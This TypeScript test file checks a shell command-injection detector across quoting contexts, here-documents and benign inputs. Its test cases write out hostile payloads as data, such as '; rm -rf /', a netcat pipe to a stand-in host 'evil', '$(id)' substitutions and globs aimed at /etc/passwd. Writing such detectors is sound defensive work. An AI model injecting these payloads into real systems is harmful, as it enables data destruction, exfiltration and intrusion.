import t from 'tap';
import { detectShellInjection } from '../../../src/detect/shell';
import type { UserInput } from '../../../src/detect/types';

const input = (value: string, path = 'q'): UserInput => ({ source: 'query', path, value });

/** Build a command the way a careless app does, and detect. */
function check(template: string, value: string) {
  return detectShellInjection(template.split('INPUT').join(value), [input(value)]);
}

// The three ways apps embed input in a command line.
const UNQUOTED = 'convert INPUT out.png';
const SINGLE = "grep -r 'INPUT' /srv/data";
const DOUBLE = 'echo "Hello INPUT" | mail -s hi root';

t.test('attacks, unquoted', async (t) => {
  const cases: [string, string][] = [
    ['; rm -rf /', 'cmdi.operator'],
    ['x && touch /tmp/x', 'cmdi.operator'],
    ['x | nc evil 80', 'cmdi.operator'],
    ['x || id', 'cmdi.operator'],
    ['x & id', 'cmdi.operator'],
    ['x\nid', 'cmdi.operator'],
    ['x\r\nid', 'cmdi.operator'],
    ['$(id)', 'cmdi.substitution'],
    ['`id`', 'cmdi.substitution'],
    ['<(id)', 'cmdi.substitution'],
    ['x${IFS}id', 'cmdi.expansion'],
    ['$HOME', 'cmdi.expansion'],
    ['$((1+1))', 'cmdi.expansion'],
    ['$[1+1]', 'cmdi.expansion'],
    ['*$(id)', 'cmdi.substitution'],
    ['?x y', 'cmdi.word-boundary'],
    ['x > /tmp/x', 'cmdi.redirection'],
    ['x>/tmp/x', 'cmdi.redirection'],
    ['x 2>&1', 'cmdi.redirection'],
    ['x #', 'cmdi.comment'],
    ['{a,b}', 'cmdi.glob'],
    ['*', 'cmdi.glob'],
    ['/etc/pass??', 'cmdi.glob'],
    ['~root', 'cmdi.glob'],
    ['a b', 'cmdi.word-boundary'],
    ['a\tb', 'cmdi.word-boundary'],
    ['-o /tmp/x', 'cmdi.word-boundary'],
    ["x'", 'cmdi.unterminated'],
    ['x"', 'cmdi.unterminated'],
    ['$(id', 'cmdi.unterminated'],
    ['hi!', 'cmdi.metacharacter'],
    ['a^b', 'cmdi.metacharacter'],
  ];
  for (const [payload, rule] of cases) {
    const d = check(UNQUOTED, payload);
    t.equal(d?.rule, rule, JSON.stringify(payload));
  }
});

t.test('attacks, single-quoted', async (t) => {
  const cases: [string, string][] = [
    ["x'; rm -rf / #", 'cmdi.operator'],
    ["x' && id && echo '", 'cmdi.operator'],
    ["'$(id)'", 'cmdi.substitution'],
    ["x'`id`'", 'cmdi.substitution'],
    ["x'$HOME'", 'cmdi.expansion'],
    ["x' '", 'cmdi.word-boundary'],
    ["x'*'", 'cmdi.glob'],
    ["x' >/tmp/f '", 'cmdi.redirection'],
    ["it's", 'cmdi.unterminated'],
  ];
  for (const [payload, rule] of cases) t.equal(check(SINGLE, payload)?.rule, rule, JSON.stringify(payload));
});

t.test('attacks, double-quoted', async (t) => {
  const cases: [string, string][] = [
    ['$(id)', 'cmdi.substitution'],
    ['`id`', 'cmdi.substitution'],
    ['${IFS}', 'cmdi.expansion'],
    ['$HOME', 'cmdi.expansion'],
    ['$((2*3))', 'cmdi.expansion'],
    ['$[2*3]', 'cmdi.expansion'],
    ['x"; id; echo "', 'cmdi.operator'],
    ['x" "y', 'cmdi.quote-breakout'],
    ['x"*"', 'cmdi.quote-breakout'],
    ['x\\', 'cmdi.unterminated'],
    ['a"b', 'cmdi.unterminated'],
  ];
  for (const [payload, rule] of cases) t.equal(check(DOUBLE, payload)?.rule, rule, JSON.stringify(payload));
  // Supplying whole strings is fine; closing the app's string that has text of its own is not.
  t.equal(detectShellInjection('echo "x"*""', [input('x"*"')])?.rule, 'cmdi.glob');
  t.equal(detectShellInjection('echo "x" "y"', [input('x" "y')])?.rule, 'cmdi.word-boundary');
  // A trailing backslash that escapes the blank after it joins two words.
  t.equal(detectShellInjection('ls a\\ other', [input('a\\')])?.rule, 'cmdi.quote-breakout');
  t.equal(detectShellInjection('ls a\\b', [input('a\\')]), undefined, 'escaping a plain letter is harmless');
  // `$` that completes an expansion with the app's text after it.
  t.equal(detectShellInjection('echo "x$_suffix"', [input('x$')])?.rule, 'cmdi.expansion');
});

t.test('benign inputs', async (t) => {
  const benign = ['report-2024.pdf', 'a.b', 'jane.doe+tag@example.com', 'C:/x', 'k=v', '100%', 'déjà-vu', '日本語.txt', 'ab'];
  for (const v of benign) {
    t.equal(check(UNQUOTED, v), undefined, `unquoted ${v}`);
    t.equal(check(SINGLE, v), undefined, `single ${v}`);
    t.equal(check(DOUBLE, v), undefined, `double ${v}`);
  }
  // Anything but a single quote is inert in single quotes.
  for (const v of ['hello world', '$(id)', '`id`', '; rm -rf /', '"', '\\', '* ? [ ] { } ~ # ! \n', '${IFS}']) {
    t.equal(check(SINGLE, v), undefined, `single-quoted ${JSON.stringify(v)}`);
  }
  // Double quotes: blanks, operators and globs are literal there.
  for (const v of ['hello world', '; | & < > ( )', '* ? [ ] { } ~ #', "it's", '\\n', '100$', 'a\\$b']) {
    t.equal(check(DOUBLE, v), undefined, `double-quoted ${JSON.stringify(v)}`);
  }
  t.equal(detectShellInjection('ls -la', [input('not-there')]), undefined, 'input absent');
  t.equal(detectShellInjection('ls -la', []), undefined, 'no inputs');
  t.equal(detectShellInjection("grep 'x' f", [input('x')]), undefined, 'one-character alphanumeric inputs are ignored');
  t.equal(detectShellInjection('ls -la  /tmp', [input(' ')]), undefined, 'blank inputs are ignored');
  t.equal(detectShellInjection('ls a  b', [input(' ')]), undefined);
  t.equal(detectShellInjection('ls # note: hi there', [input('hi there')]), undefined, 'inside an app comment');
  t.equal(detectShellInjection('ls a  b', [input('a ')]), undefined, 'a trailing blank next to an existing gap');
  t.equal(detectShellInjection('ls a b', [input('a ')])?.rule, 'cmdi.word-boundary', 'the only blank: the input split `ab`');
  t.equal(detectShellInjection('ls  b', [input(' b')]), undefined, 'a leading blank next to an existing gap');
});

t.test('input that supplies whole quoted strings stays a value', async (t) => {
  t.equal(check(UNQUOTED, "'hello world'"), undefined);
  t.equal(check(UNQUOTED, '"hello world"'), undefined);
  t.equal(check(UNQUOTED, "x'y'z"), undefined);
  t.equal(check(SINGLE, "a'b'c"), undefined, 'quote toggling with only plain characters outside quotes');
  t.equal(check(UNQUOTED, 'a\\;b'), undefined, 'an escaped operator is a literal');
  t.equal(check(UNQUOTED, "$'a\\nb'"), undefined, 'ANSI-C quoting is literal');
});

t.test('whitespace at the edges', async (t) => {
  t.equal(detectShellInjection('ls  -la', [input(' -la')]), undefined, 'existing gap');
  t.equal(detectShellInjection('ls -la', [input(' -la')])?.rule, 'cmdi.word-boundary', 'the app wrote `ls` + input');
  t.equal(detectShellInjection('ls-la', [input('-la')]), undefined, 'inside a word');
  t.equal(detectShellInjection('tool -x', [input('l -x')])?.rule, 'cmdi.word-boundary');
  t.equal(detectShellInjection('ls  -la', [input('ls ')])?.rule, 'cmdi.command', 'trailing blank is trimmed, the rest is checked');
  const app = (v: string) => `cmd${v}`;
  t.equal(detectShellInjection(app(' -rf'), [input(' -rf')])?.rule, 'cmdi.word-boundary', 'leading blank splits the app word');
  t.equal(detectShellInjection('cmd arg1  arg2', [input('arg1 ')]), undefined, 'form input with a trailing blank');
});

t.test('program name from input', async (t) => {
  t.equal(detectShellInjection('reboot', [input('reboot')])?.rule, 'cmdi.command');
  t.equal(detectShellInjection('ls | INPUT'.replace('INPUT', 'sh'), [input('sh')])?.rule, 'cmdi.command');
  t.equal(detectShellInjection("'/bin/sh' -c x", [input("'/bin/sh'")])?.rule, 'cmdi.command');
  t.equal(detectShellInjection('/opt/app-1.2/bin/tool x', [input('app-1.2')]), undefined, 'part of a program path is a value');
  t.equal(detectShellInjection('echo reboot', [input('reboot')]), undefined, 'as an argument');
  t.equal(detectShellInjection('FOO=bar cmd', [input('bar')]), undefined, 'assignment value');
});

t.test('input inside the app own substitution', async (t) => {
  t.equal(detectShellInjection('echo $(basename INPUT)'.replace('INPUT', 'file.txt'), [input('file.txt')]), undefined);
  t.equal(detectShellInjection('echo $(basename x; id)', [input('x; id')])?.rule, 'cmdi.operator');
  t.equal(detectShellInjection("echo `cat 'a b'`", [input('a b')]), undefined);
  t.equal(detectShellInjection('echo `cat a b`', [input('a b')])?.rule, 'cmdi.word-boundary');
  t.equal(detectShellInjection('echo ${X:-file}', [input('file')])?.rule, 'cmdi.expansion', 'inside ${...} is code');
  t.equal(detectShellInjection('echo $((X + 12))', [input('12')])?.rule, 'cmdi.expansion', 'arithmetic is code');
  t.equal(detectShellInjection('echo $HOME', [input('HOME')])?.rule, 'cmdi.expansion', 'completes an expansion');
});

t.test('here-documents', async (t) => {
  const doc = (v: string) => `cat <<EOF > /tmp/out\n${v}\nEOF\necho done`;
  t.equal(detectShellInjection(doc('hello world; *'), [input('hello world; *')]), undefined, 'literal body');
  t.equal(detectShellInjection(doc('$(id)'), [input('$(id)')])?.rule, 'cmdi.substitution');
  t.equal(detectShellInjection(doc('x\nEOF\nid'), [input('x\nEOF\nid')])?.rule, 'cmdi.redirection', 'ending the document early');
  const quotedDoc = "cat <<'EOF'\n$(id)\nEOF\n";
  t.equal(detectShellInjection(quotedDoc, [input('$(id)')]), undefined, 'quoted delimiter: no expansion');
});

t.test('every occurrence is checked; one attack suffices', async (t) => {
  const s = "echo 'x y' x y";
  t.equal(detectShellInjection(s, [input('x y')])?.rule, 'cmdi.word-boundary');
  const inputs = [input('fine', 'a'), input('; id', 'b')];
  const d = detectShellInjection('echo fine; id', inputs);
  t.equal(d?.input.path, 'b', 'reports the input that did it');
  t.equal(d?.kind, 'command_injection');
  t.type(d?.reason, 'string');
});

t.test('fails closed on unterminated scripts', async (t) => {
  t.equal(detectShellInjection("echo 'abc", [input('abc')])?.rule, 'cmdi.unterminated');
  t.equal(detectShellInjection("echo 'abc", [input('zzz')]), undefined, 'unless the input is absent');
  t.equal(detectShellInjection('$('.repeat(100) + 'x', [input('xx'), input('$(x')])?.rule, 'cmdi.unterminated');
});
